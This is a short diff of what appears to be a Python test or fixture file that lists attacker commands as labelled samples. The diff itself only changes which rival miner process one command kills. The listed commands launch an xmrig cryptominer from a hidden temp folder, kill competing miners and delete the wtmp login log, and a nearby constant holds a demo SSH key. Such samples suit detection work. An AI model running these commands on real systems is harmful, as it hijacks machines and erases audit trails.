@@ -36,7 +36,7 @@ MINER = (
         "nohup /tmp/.k/xmrig -o stratum+tcp://pool.example.org:3333 -u demo-wallet-7f3a -k --donate-level 0 &",
         "unknown",
     ),
-    Command("pkill -9 kinsing; rm -rf /var/log/wtmp", "unknown"),
+    Command("pkill -9 kdevtmpfsi; rm -rf /var/log/wtmp", "unknown"),
 )
 KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoDemoDemoDemoDemoDemoDemoDemoDemoDemoDe ops@example.com"
 PERSISTENCE = (
